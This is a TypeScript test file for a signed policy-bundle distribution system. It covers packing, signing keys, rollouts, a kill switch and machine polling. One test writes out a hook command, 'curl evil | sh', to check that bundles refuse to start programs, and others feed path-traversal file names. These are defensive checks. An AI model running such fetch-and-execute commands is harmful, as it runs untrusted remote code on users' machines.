/* oxlint-disable no-await-in-loop -- each step is judged after the one before */
import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { packBundle, readBundle, rulesText } from '../../src/bundle/document.ts'
import { isInCohort } from '../../src/bundle/machine/kept.ts'
import type { PollState } from '../../src/bundle/machine/poll-state.ts'
import { firstDelayMs } from '../../src/bundle/machine/poller.ts'
import { keyFile, makeKey, readKey } from '../../src/bundle/team/keys.ts'
import { promote, publish, throwSwitch } from '../../src/bundle/team/publish.ts'
import { readTargets, readTimestamp, refresh } from '../../src/bundle/team/repository.ts'
import { addChannels, makeRepository, onlineKeys } from '../../src/bundle/team/roles.ts'
import { renew, replaceKey } from '../../src/bundle/team/rotate.ts'
import { tryLock } from '../../src/files/lock.ts'
import { serveFolder } from '../support/bundle-server.ts'
import { channel, denyRm, makeMachine, makeTeam, packed } from '../support/bundles.ts'
import { folderWith } from '../support/workspace.ts'

const whole = { format: 1, name: 'team', revision: 'r1', files: {}, rules: denyRm, params: {} }

describe('a bundle', () => {
  it('is the same bytes for the same content, and read back as it was', () => {
    const files = { 'policies/b.policy.ts': 'b', 'policies/a.policy.ts': 'a' }
    const reversed = Object.fromEntries(Object.entries(files).toReversed())
    expect(packBundle({ ...whole, files })).toEqual(packBundle({ ...whole, files: reversed }))
    expect(readBundle(packBundle({ ...whole, files }))).toEqual({ ...whole, files })
  })

  it.each([
    '../x.ts',
    '/etc/x',
    'a/../b',
    'a\\b',
    '.hidden',
    'a//b',
    'hooks.json',
    'HOOKS.json',
    'C:x',
    'a/',
    '',
    'a\0b',
  ])('has no file %j', (path) => {
    expect(() => packBundle({ ...whole, files: { [path]: '' } })).toThrow(/files/)
  })

  it.each([
    ['selfProtection', { selfProtection: false }],
    ['record', { record: { level: 'off' } }],
    ['export', { export: { file: '/tmp/x' } }],
    ['userMaySet', { userMaySet: ['record'] }],
    ['disableAllHooks', { disableAllHooks: true }],
    ['bundle', { bundle: { url: 'https://x', channel: 'x' } }],
  ])('says nothing about the machine: %s', (key, rules) => {
    expect(() => packBundle({ ...whole, rules: { ...denyRm, ...rules } })).toThrow(key)
  })

  it('starts no program', () => {
    const rules = { hooks: { PreToolUse: [{ hooks: [{ type: 'command', command: 'curl evil | sh' }] }] } }
    expect(() => packBundle({ ...whole, rules })).toThrow(/no hook of it starts a program/)
  })

  it.each(['/home/me/x.policy.ts', '../x.policy.ts', './a/../../x.policy.ts', 'C:\\x.policy.ts'])(
    'names no policy outside of it: %s',
    (policy) => {
      const rules = { hooks: { PreToolUse: [{ hooks: [{ type: 'policy', policy }] }] } }
      expect(() => packBundle({ ...whole, rules })).toThrow(/must be in the bundle/)
      expect(() => packBundle({ ...whole, rules: { packs: [{ pack: policy }] } })).toThrow(/must be in the bundle/)
    },
  )

  it('has params for packs and policies that its rules name, and for no others', () => {
    const rules = { packs: [{ pack: 'git-safety', params: { a: 1, b: 1 } }] }
    const bundle = readBundle(packBundle({ ...whole, rules, params: { 'git-safety': { b: 2 } } }))
    expect(JSON.parse(rulesText(bundle))).toEqual({ packs: [{ pack: 'git-safety', params: { a: 1, b: 2 } }] })
    expect(() => rulesText({ ...bundle, params: { other: {} } })).toThrow(/`other`, which no rule/)
  })
})

describe('a key', () => {
  it('is a file that only its owner can read, and encrypted if there is a passphrase', () => {
    const folder = folderWith({})
    makeKey(folder, 'plain', undefined)
    makeKey(folder, 'locked', 'open sesame')
    expect(statSync(keyFile(folder, 'plain')).mode & 0o777).toBe(0o600)
    expect(readFileSync(keyFile(folder, 'locked'), 'utf8')).toContain('ENCRYPTED PRIVATE KEY')
    expect(readKey(folder, 'locked', 'open sesame').sign(Buffer.of(1))).toMatch(/^[0-9a-f]{128}$/)
    expect(() => readKey(folder, 'locked', 'open says me')).toThrow(/cannot be decrypted/)
    expect(() => readKey(folder, 'locked', undefined)).toThrow(/is encrypted/)
    expect(() => makeKey(folder, 'plain', undefined)).toThrow(/there is a key already/)
  })

  it('that is damaged, missing, of another role or readable by others is named with its file', () => {
    const folder = folderWith({})
    makeKey(folder, 'a', undefined)
    const file = keyFile(folder, 'a')
    const text = readFileSync(file, 'utf8')
    expect(() => readKey(folder, 'b', undefined)).toThrow(/no key for the role `b`/)
    for (const wrong of ['', '{', '{}', text.replace(/MC4/, 'XXX'), text.replace(/"public": "./, '"public": "x')]) {
      writeFileSync(file, wrong)
      expect(() => readKey(folder, 'a', undefined)).toThrow(/damaged/)
    }
    writeFileSync(join(folder, 'b.key.json'), text, { mode: 0o600 })
    expect(() => readKey(folder, 'b', undefined)).toThrow(/not the one of `b`/)
    writeFileSync(file, text)
    chmodSync(file, 0o644)
    expect(() => readKey(folder, 'a', undefined)).toThrow(/users other than its owner/)
  })
})

describe('a repository', () => {
  it('is made once, in a folder that is named', () => {
    const { repository, signing } = makeTeam()
    expect(() => makeRepository(repository, { roots: 1, threshold: 1 }, [], signing)).toThrow(/a repository already/)
    const elsewhere = { folder: folderWith({}) }
    expect(() => readTargets(elsewhere, 'targets')).toThrow(/cannot be read: it does not exist/)
  })

  it('keeps the release before, for the machines that a new one is not for', async () => {
    const team = makeTeam()
    team.publish('r1')
    const salted = team.publish('r2', denyRm, { percent: 50, mode: 'observe' })
    expect(salted).toMatchObject({ previous: `${channel}/before-r1.json.gz`, percent: 50, mode: 'observe' })
    const server = await serveFolder(team.repository.folder)
    const ids = Array.from({ length: 6 }, (_, index) => `machine-${index}`)
    for (const machineId of ids) {
      const machine = makeMachine(team, server.url, { machineId })
      await machine.poll()
      expect(machine.revision()).toBe(isInCohort(salted, machineId) ? 'r2' : 'r1')
    }
    // A third one while the second has not reached all: the first stays what the others have.
    expect(team.publish('r3', denyRm, { percent: 10 }).previous).toBe(`${channel}/before-r1.json.gz`)
  })

  it('changes how far a release goes by what is signed, and by nothing else', async () => {
    const team = makeTeam()
    const before = team.publish('r1', denyRm, { percent: 0, mode: 'observe' })
    const server = await serveFolder(team.repository.folder)
    const machine = makeMachine(team, server.url)
    await machine.poll()
    expect(machine.kept()).toMatchObject({ kind: 'kept', bundle: undefined })
    const after = promote(team.repository, channel, { percent: 100, mode: 'enforce' }, team.signing)
    expect(after).toEqual({ ...before, percent: 100, mode: 'enforce' })
    await machine.poll()
    expect(machine.kept()).toMatchObject({ bundle: { revision: 'r1' }, choice: { mode: 'enforce' } })
  })

  it('refuses a revision twice, a channel that is not there, and an empty one', () => {
    const team = makeTeam()
    expect(() => promote(team.repository, channel, { percent: 1 }, team.signing)).toThrow(/nothing is published/)
    team.publish('r1')
    expect(() => team.publish('r1')).toThrow(/is the newest one already/)
    const rollout = { percent: 100, mode: 'enforce' } as const
    expect(() => publish(team.repository, 'nowhere', packed('r2'), rollout, team.signing)).toThrow(
      /no role `channel-nowhere`/,
    )
    expect(addChannels(team.repository, ['servers'], team.signing)).toEqual(['channel-servers'])
    expect(() => addChannels(team.repository, ['servers'], team.signing)).toThrow(/all of these channels are there/)
  })

  it('signs nothing that others have changed on the server', () => {
    const team = makeTeam()
    team.publish('r1')
    const file = team.file(`metadata/2.channel-${channel}.json`)
    writeFileSync(file, readFileSync(file, 'utf8').replace('"percent":100', '"percent":1'))
    expect(() => team.publish('r2')).toThrow(/was not signed by the key/)
  })

  it('is read from a server that closes each connection that is used again', async () => {
    const team = makeTeam()
    team.publish('r1')
    const server = await serveFolder(team.repository.folder)
    const used = new WeakSet<object>()
    let closed = 0
    server.at('', (response, { socket, url = '' }) => {
      if (used.has(socket)) {
        closed += 1
        socket.destroy()
        return
      }
      used.add(socket)
      const file = team.file(url)
      if (existsSync(file)) response.end(readFileSync(file))
      else response.writeHead(404).end()
    })
    const machine = makeMachine(team, server.url)
    await machine.poll()
    expect(machine.revision()).toBe('r1')
    expect(closed).toBeGreaterThan(0)
  })

  it('is renewed: the timestamp each day, the root each year, any key at any time', async () => {
    const team = makeTeam()
    team.publish('r1')
    const server = await serveFolder(team.repository.folder)
    const machine = makeMachine(team, server.url)
    await machine.poll()
    const { version } = readTimestamp(team.repository).signed
    refresh(team.repository, onlineKeys(team.signing), Date.now())
    expect(readTimestamp(team.repository).signed.version).toBe(version + 1)
    const snapshots = () => readdirSync(team.file('metadata')).filter((name) => name.includes('snapshot')).length
    const count = snapshots()
    refresh(team.repository, onlineKeys(team.signing), Date.now() + 4 * 86_400_000)
    expect(snapshots()).toBe(count + 1)
    expect(renew(team.repository, 'root', team.signing)).toBe(2)
    expect(renew(team.repository, 'targets', team.signing)).toBe(2)
    for (const role of ['root-1', 'targets', 'snapshot', 'timestamp', 'switch', `channel-${channel}`]) {
      expect(replaceKey(team.repository, role, team.signing)).toMatch(/retired/)
    }
    // A key that is lost.
    rmSync(keyFile(team.signing.keys, 'snapshot'))
    expect(replaceKey(team.repository, 'snapshot', team.signing)).toBeUndefined()
    team.publish('r2')
    await machine.poll()
    expect(machine.kept()).toMatchObject({ kind: 'kept', bundle: { revision: 'r2' }, signed: { rootVersion: 7 } })
    expect(() => replaceKey(team.repository, 'root', team.signing)).toThrow(/several keys/)
    expect(() => replaceKey(team.repository, 'root-9', team.signing)).toThrow(/no key `root-9`/)
  })

  it('makes no root that machines would refuse', () => {
    const team = makeTeam()
    for (const name of ['root-2', 'root-3']) rmSync(keyFile(team.signing.keys, name))
    expect(() => renew(team.repository, 'root', team.signing)).toThrow(/1\/2 keys/)
    rmSync(keyFile(team.signing.keys, 'root-1'))
    expect(() => renew(team.repository, 'root', team.signing)).toThrow(/signed by no key of the folder/)
  })
})

describe('the kill switch', () => {
  it('lets one rule or the whole bundle observe, or goes back, and ends by itself', async () => {
    const team = makeTeam()
    team.publish('r1')
    team.publish('r2')
    const server = await serveFolder(team.repository.folder)
    const machine = makeMachine(team, server.url)
    const nowS = Math.floor(Date.now() / 1000)
    const until = nowS + 3600
    const later = { nowMs: Date.now() + 3_700_000 }
    throwSwitch(
      team.repository,
      channel,
      { action: { kind: 'observe', rule: 'a/b' }, until, reason: 'too many' },
      team.signing,
    )
    await machine.poll()
    expect(machine.kept()).toMatchObject({ choice: { mode: 'enforce', observed: ['a/b'], isNewest: true } })
    expect(machine.kept(later)).toMatchObject({ choice: { observed: [], switched: [] } })
    throwSwitch(team.repository, channel, { action: { kind: 'previous' }, until, reason: '' }, team.signing)
    throwSwitch(team.repository, channel, { action: { kind: 'observe' }, until, reason: '' }, team.signing)
    await machine.poll()
    expect(machine.kept()).toMatchObject({ bundle: { revision: 'r1' }, choice: { mode: 'observe', isNewest: false } })
    // Also if the server does not answer any more.
    await server.close()
    expect(machine.kept(later)).toMatchObject({ bundle: { revision: 'r2' }, choice: { mode: 'enforce' } })
  })

  it('holds for no longer than 72 hours, is taken back, and is not followed if its own signature has expired', async () => {
    const team = makeTeam()
    team.publish('r1')
    const server = await serveFolder(team.repository.folder)
    const machine = makeMachine(team, server.url)
    const at = (hours: number) => Math.floor(Date.now() / 1000) + hours * 3600
    const observe = (until: number) => ({ action: { kind: 'observe' }, until, reason: '' }) as const
    expect(() => throwSwitch(team.repository, channel, observe(at(73)), team.signing)).toThrow(/longer than 72 hours/)
    throwSwitch(team.repository, channel, observe(at(72) - 60), team.signing)
    await machine.poll()
    expect(machine.kept()).toMatchObject({ choice: { mode: 'observe' } })
    expect(throwSwitch(team.repository, channel, undefined, team.signing)).toEqual([])
    await machine.poll()
    expect(machine.kept()).toMatchObject({ choice: { mode: 'enforce' } })
    const old = { ...team.signing, nowMs: Date.now() - 91 * 86_400_000 }
    throwSwitch(team.repository, channel, observe(at(-90 * 24)), old)
    refresh(team.repository, onlineKeys(team.signing), Date.now())
    expect(await machine.poll()).toEqual({ isNew: true, notes: [expect.stringContaining('switch is not known')] })
    expect(machine.kept()).toMatchObject({ choice: { mode: 'enforce' } })
  })

  it('says nothing of another channel', async () => {
    const team = makeTeam()
    addChannels(team.repository, ['servers'], team.signing)
    team.publish('r1')
    const until = Math.floor(Date.now() / 1000) + 60
    throwSwitch(team.repository, 'servers', { action: { kind: 'observe' }, until, reason: '' }, team.signing)
    const server = await serveFolder(team.repository.folder)
    const machine = makeMachine(team, server.url)
    await machine.poll()
    expect(machine.kept()).toMatchObject({ choice: { mode: 'enforce', switched: [] } })
  })
})

describe('a machine', () => {
  it('keeps what it has if what is new does not load, and does not try it again and again', async () => {
    const team = makeTeam()
    team.publish('r1')
    const server = await serveFolder(team.repository.folder)
    let checks = 0
    const check = async ({ revision }: { readonly revision: string }) => {
      checks += 1
      return revision === 'r2' ? ['x.policy.ts:1:1: it throws'] : []
    }
    const machine = makeMachine(team, server.url, { check })
    await machine.poll()
    team.publish('r2')
    await expect(machine.poll()).rejects.toThrow(/r2 does not load: x.policy.ts:1:1: it throws/)
    await expect(machine.poll()).rejects.toThrow(/r2 does not load/)
    expect([machine.revision(), checks]).toEqual(['r1', 2])
    team.publish('r3')
    await machine.poll()
    expect(machine.revision()).toBe('r3')
    expect(readdirSync(machine.folder).filter((name) => /^r\d-/.test(name))).toEqual([expect.stringMatching(/^r3-/)])
  })

  it('does not activate a bundle that needs a newer hookgate', async () => {
    const team = makeTeam()
    const rollout = { percent: 100, mode: 'enforce' } as const
    publish(team.repository, channel, packed('r1', denyRm, { minGate: '99.0.0' }), rollout, team.signing)
    const server = await serveFolder(team.repository.folder)
    await expect(makeMachine(team, server.url).poll()).rejects.toThrow(/it needs hookgate 99.0.0/)
  })

  it('asks twice if there is nothing new', async () => {
    const team = makeTeam()
    team.publish('r1')
    const server = await serveFolder(team.repository.folder)
    const machine = makeMachine(team, server.url)
    await machine.poll()
    server.requests.length = 0
    expect(await machine.poll()).toEqual({ isNew: false, notes: [] })
    expect(server.requests).toEqual(['/metadata/2.root.json', '/metadata/timestamp.json'])
  })

  it.each([
    ['that leads nowhere', '/none/at-all'],
    ['to itself', 'old-0123456789ab'],
    ['to a folder of somebody else', '/usr'],
  ])('looks for bundles though its folder has a link %s in place of an old release', async (_, target) => {
    const team = makeTeam()
    team.publish('r1')
    const server = await serveFolder(team.repository.folder)
    const machine = makeMachine(team, server.url)
    symlinkSync(target, join(machine.folder, 'old-0123456789ab'))
    expect(await machine.poll()).toEqual({ isNew: true, notes: [] })
    expect(machine.revision()).toBe('r1')
    expect(existsSync('/usr')).toBe(true)
  })

  it('says that it does not look while another process does', async () => {
    const team = makeTeam()
    team.publish('r1')
    const server = await serveFolder(team.repository.folder)
    const machine = makeMachine(team, server.url)
    const lock = tryLock(join(machine.folder, 'poll.lock'))
    expect(await machine.poll()).toMatchObject({ isNew: false, notes: [expect.stringContaining('poll.lock')] })
    lock?.release()
    expect(await machine.poll()).toEqual({ isNew: true, notes: [] })
  })

  it.each([0, 10, 50, 100])('is one of about %i of a hundred', (percent) => {
    const ids = Array.from({ length: 2000 }, (_, index) => `id-${index}`)
    const share = ids.filter((id) => isInCohort({ percent, salt: 'a salt' }, id)).length / 20
    expect(Math.abs(share - percent)).toBeLessThan(4)
    const other = ids.filter((id) => isInCohort({ percent, salt: 'another' }, id))
    if (percent === 10) expect(other.every((id) => isInCohort({ percent, salt: 'a salt' }, id))).toBe(false)
  })

  it('goes back to no older release if two gates look at once for one folder, as replicas with one volume do', async () => {
    const team = makeTeam()
    team.publish('r1')
    const server = await serveFolder(team.repository.folder)
    const checking = Promise.withResolvers<void>()
    const goOn = Promise.withResolvers<void>()
    const slow = makeMachine(team, server.url, {
      async check() {
        checking.resolve()
        await goOn.promise
        return []
      },
    })
    const looks = slow.poll()
    await checking.promise
    team.publish('r2')
    const other = makeMachine(team, server.url, { folder: slow.folder })
    await other.poll()
    const seen = [other.revision()]
    goOn.resolve()
    await looks
    seen.push(other.revision())
    await Promise.all([other.poll(), slow.poll()])
    expect([...seen, other.revision()]).toEqual(['nothing has been fetched yet', 'r1', 'r2'])
    expect(other.kept()).toMatchObject({ problem: undefined })
  })

  it('uses the other bundle that it has if one is damaged', async () => {
    const team = makeTeam()
    team.publish('r1')
    team.publish('r2')
    const server = await serveFolder(team.repository.folder)
    const machine = makeMachine(team, server.url)
    await machine.poll()
    const release = readdirSync(machine.folder).find((name) => name.startsWith('r2-')) ?? ''
    writeFileSync(join(machine.folder, release, 'bundle.json.gz'), 'x')
    expect(machine.kept()).toMatchObject({
      bundle: { revision: 'r1' },
      problem: expect.stringContaining('not the one'),
    })
  })
})

describe('the first look of a gate', () => {
  const minute = 60_000
  const lookedAt = (agoMs: number, problem?: string): PollState => ({
    format: 1,
    checkedAt: new Date(Date.now() - agoMs).toISOString(),
    notes: [],
    channel,
    freshness: 'fresh',
    ...(problem !== undefined && { problem }),
  })
  const delay = (last: PollState | undefined, isMissing = false) =>
    firstDelayMs(5 * minute, last, isMissing, Date.now())

  it.each([
    ['there was none yet', undefined, false],
    ['the last one was long ago', lookedAt(60 * minute), false],
    ['the last one was an interval ago, and each gate since ended too soon', lookedAt(6.3 * minute), false],
    ['a clock that was ahead was set back', lookedAt(-60 * minute), false],
    ['there are no rules, and the last one was over a minute ago', lookedAt(1.3 * minute, 'away'), true],
  ])('is at once where %s', (_, last, isMissing) => {
    for (let turn = 0; turn < 100; turn += 1) expect(delay(last, isMissing)).toBe(0)
  })

  it('waits for the rest of an interval of its own after a look just now', () => {
    const delays = Array.from({ length: 100 }, () => delay(lookedAt(0)))
    expect(Math.min(...delays)).toBeGreaterThan(3.7 * minute)
    expect(Math.max(...delays)).toBeLessThanOrEqual(6.25 * minute)
    expect(new Set(delays).size).toBeGreaterThan(50)
  })
})
